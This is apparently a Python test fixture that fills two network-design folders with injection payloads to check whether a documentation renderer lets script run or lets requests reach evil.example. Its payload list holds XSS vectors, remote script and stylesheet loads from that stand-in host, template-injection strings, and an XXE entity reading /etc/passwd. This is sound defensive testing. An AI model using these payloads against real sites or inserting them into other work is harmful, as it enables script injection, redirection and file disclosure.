"""Words that want to run, load, forge or break something, and a design that says them wherever anybody may say anything."""

from __future__ import annotations

import json
from pathlib import Path

MARK = "xss7"
"""In every script, so that a browser can tell whether one ran: `window.xss7`."""
FOREIGN = "evil.example"
"""Where every foreign address leads, so that a request there is seen."""

PAYLOADS = {
    "a-script": "<script>window.xss7=1</script>",
    "a-script-from-elsewhere": "<script src=//evil.example/x.js></script>",
    "an-image-that-fails": "<img src=x onerror=window.xss7=1>",
    "an-image-from-elsewhere": "<img src=https://evil.example/a.png>",
    "an-svg-that-loads": "<svg onload=window.xss7=1>",
    "an-open-details": "<details open ontoggle=window.xss7=1>",
    "a-frame-of-script": "<iframe srcdoc='<script>top.xss7=1</script>'>",
    "an-object-of-data": "<object data=data:text/html,x>",
    "a-style-from-elsewhere": "<style>@import '//evil.example/a.css';</style>",
    "a-base": "<base href=https://evil.example/>",
    "a-refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
    "a-form": "<form action=//evil.example><input autofocus onfocus=window.xss7=1>",
    "a-math-mutation": "<math><mtext><table><mglyph><style><img src=x onerror=window.xss7=1>",
    "out-of-a-title": "</title></textarea></style><script>window.xss7=1</script>",
    "out-of-a-script": "</script><script>window.xss7=1</script>",
    "out-of-an-attribute": "\" onmouseover=window.xss7=1 autofocus onfocus=window.xss7=1 x=\"",
    "out-of-a-single-quote": "' onmouseover='window.xss7=1",
    "out-of-a-backtick": "` onmouseover=window.xss7=1 `<img src=x onerror=window.xss7=1>",
    "out-of-cdata": "]]><script>window.xss7=1</script>",
    "out-of-a-comment": "--><script>window.xss7=1</script><!--",
    "an-entity": "&lt;script&gt;window.xss7=1&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "an-xml-entity": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]> &b;",
    "an-instruction": "<?xml-stylesheet href='//evil.example/a.xsl'?>",
    "a-link-of-script": "[click](javascript:window.xss7=1)",
    "a-link-of-hidden-script": "[click](java&#115;cript:window.xss7=1) [b](JaVaScRiPt:window.xss7=1)",
    "a-link-of-code": "[click](`javascript:window.xss7=1`)",
    "a-link-of-data": "[click](data:text/html,<script>top.xss7=1</script>)",
    "a-link-of-visual-basic": "[click](vbscript:msgbox) <javascript:window.xss7=1>",
    "a-picture-of-markdown": "![x](https://evil.example/a.png) ![y](x\" onerror=\"window.xss7=1)",
    "a-reference": "[x]: javascript:window.xss7=1",
    "a-list-of-attributes": "word {: onclick=\"window.xss7=1\" style=\"position:fixed\" }",
    "a-heading": "# Heading ## Another | a | b | *c* **d** _e_ ~~f~~ ==g== ^h^",
    "a-fence": "``` ~~~ ````",
    "a-table": "| a | b | \\| c |",
    "a-template": "{{ 7*7 }} {% include 'x' %} {# c #} ${7*7} #{7*7} <%= 7*7 %>",
    "a-figure-of-ours": "{{ figure:nat-gateway-hour }} {{ figure:../../x }}",
    "a-place-of-ours": "<!-- docgen:gallery --> <!-- docgen:player x -->",
    "a-snippet": "--8<-- \"/etc/passwd\" !!! note ::: module",
    "markup-of-mediawiki": "[[File:x.png]] {{Template}} <nowiki> '''b''' [javascript:window.xss7=1 x] __TOC__",
    "markup-of-dokuwiki": "{{x.png?nolink}} [[a|b]] <php>echo 1;</php> <html>x</html> ~~NOCACHE~~ %%a%% ((b))",
    "markup-of-confluence": "<ac:structured-macro ac:name='html'/> {html}x{html} [a|javascript:window.xss7=1]",
    "markup-of-mermaid": "\"]; click A \"javascript:window.xss7=1\" %%{init: {'securityLevel':'loose'}}%%",
    "markup-of-dot": "\\N \\L \" URL=\"javascript:window.xss7=1\" label=<<b>x</b>>",
    "a-command-of-github": "::error file=a::b ::set-output name=x::y ##[error]z",
    "a-formula": "$$\\href{javascript:window.xss7=1}{x}$$ =HYPERLINK(\"//evil.example\") @SUM(1) +1 -1",
    "another-alphabet": "аррӏе 数据 e\u0301\u0301\u0301 \U0001f9c0 \U0001f468\u200d\U0001f469 עברית",
    "a-long-word": "w" * 190,
}  # fmt: skip
NAMES = list(PAYLOADS)


class Words:
    """Hands out payloads in turn, beginning with one."""

    def __init__(self, first: int) -> None:
        self._at = first
        self.said: list[str] = []

    def __call__(self) -> str:
        text = PAYLOADS[NAMES[self._at % len(NAMES)]]
        self._at += 1
        self.said.append(text)
        return text


def definition(say: Words) -> str:
    """A network in which something is blocked, something rewritten, something down, and everything has a title."""

    def told() -> dict[str, str]:
        return {"title": say(), "description": say()}

    values = {
        "version": 1,
        "title": say(),
        "summary": say(),
        "region": "ap-south-1",
        "zones": ["a", "b"],
        "vpcs": {
            "shop": {
                "cidr_block": "10.0.0.0/16",
                **told(),
                "internet_gateways": {"igw": told()},
                "subnets": {
                    "public": {"cidr_blocks": ["10.0.0.0/24", "10.0.1.0/24"], "route_table": "out", **told()},
                    "app": {"cidr_blocks": ["10.0.10.0/24", "10.0.11.0/24"], **told()},
                },
                "route_tables": {
                    "out": {"routes": {"0.0.0.0/0": "igw"}, **told()},
                },
                "security_groups": {"web": {"ingress": ["tcp 443 from 0.0.0.0/0"], **told()}},
                "instances": {
                    "web": {
                        "subnet": "public",
                        "public_ip_addresses": ["198.51.100.7", "198.51.100.8"],
                        "security_groups": ["web"],
                        **told(),
                    },
                    "app": {"subnet": "app", **told()},
                },
            }
        },
        "flows": {
            f"f{n}": {"from": source, "to": target, "port": port, **told()}
            for n, (source, target, port) in enumerate(
                [("internet", "web", 443), ("internet", "web", 22), ("web", "app", 5432), ("app", "internet", 443)]
            )
        },
        "views": {"part": {"include": ["shop"], **told()}},
        "variants": {"other": {**told(), "changes": {"vpcs": {"shop": {"title": say()}}}}},
        "invariants": {"never": {"title": say(), "never": {"from": "internet", "to": "app"}}},
        "suppress": {"DGL-62": say()},
    }
    return json.dumps(values, ensure_ascii=False, indent=1)


def page(say: Words) -> str:
    return json.dumps(
        {
            "version": 1,
            "teaches": say(),
            "use_when": [say(), say()],
            "avoid_when": [say()],
            "mistakes": [{"flow": "f1", "title": say(), "text": say()}],
            "quiz": [
                {
                    "question": say(),
                    "flow": "f1",
                    "choices": [{"text": say(), "outcome": "allowed"}, {"text": say(), "outcome": "blocked"}],
                    "why": say(),
                }
            ],
        },
        ensure_ascii=False,
    )


def prose(say: Words) -> str:
    """Every payload as a paragraph, an item, a cell, a heading and in code; and some that need lines of their own."""
    known = list(PAYLOADS.values())
    lines = ["# Title", ""]
    for text in known:
        lines += [text, "", f"- {text}", "", f"> {text}", "", f"## {text}", "", f"| a |\n| --- |\n| {text} |", ""]
        lines += [
            f"`{text}`",
            "",
            f"    {text}",
            "",
            f"```html onclick={MARK}\n{text}\n```",
            "",
            f"~~~\n{text}",
            "~~~",
            "",
        ]
        lines += [f"[x]: {text}", "", f"[{text}]({text})", "", f"![{text}]({text})", "", f"*[word]: {text}", ""]
    lines += [
        "[a][b] ![c][b] ![b]",
        "",
        "[b]:",
        "  javascript:window.xss7=1",
        "",
        "```architecture",
        "/etc/passwd",
        "```",
    ]
    lines += [
        "",
        "a ` b",
        "",
        "[x](javascript:window.xss7=1) ` c",
        "",
        "```mermaid",
        "graph TD; A--><b>",
        "```",
        "",
        "```",
    ]
    lines += ["<script>window.xss7=1</script>", say(), "an unclosed fence"]
    return "\n".join(lines)


def collection(say: Words) -> dict[str, str]:
    """Files beside the designs `one` and `two`."""
    comparison = {
        "version": 1,
        "title": say(),
        "question": say(),
        "answer": say(),
        "designs": [{"design": d, "label": say(), "choose": say()} for d in ("one", "two")],
        "rows": [{"aspect": say(), "values": [say(), say()]}, {"aspect": say(), "flows": ["f1", "f2"]}],
    }
    coverage = {
        "version": 1,
        "document": say(),
        "about": say(),
        "sections": [{"title": say(), "tells": say(), "designs": ["one"], "pages": {"guide/proofs.md": say()}}],
        "corrections": [
            {
                "said": say(),
                "judgement": "wrong",
                "truth": say(),
                "sources": {"https://docs.aws.amazon.com/": say(), 'https://x/"onclick=window.xss7=1': say()},
            }
        ],
    }
    index = {"version": 1, "chapters": [{"title": say(), "summary": say(), "slugs": ["one", "two"]}]}
    made = {"comparisons/both.yaml": comparison, "coverage.yaml": coverage, "index.yaml": index}
    return {name: json.dumps(values, ensure_ascii=False) for name, values in made.items()}


def write(folder: Path, first: int) -> list[str]:
    """A folder of two hostile designs; everything that they say."""
    say = Words(first)
    for slug in ("one", "two"):
        (folder / slug).mkdir(parents=True)
        (folder / slug / "architecture.yaml").write_text(definition(say), encoding="utf-8")
        (folder / slug / "page.yaml").write_text(page(say), encoding="utf-8")
        (folder / slug / "README.md").write_text(prose(say), encoding="utf-8")
    (folder / "comparisons").mkdir()
    for name, text in collection(say).items():
        (folder / name).write_text(text, encoding="utf-8")
    return say.said
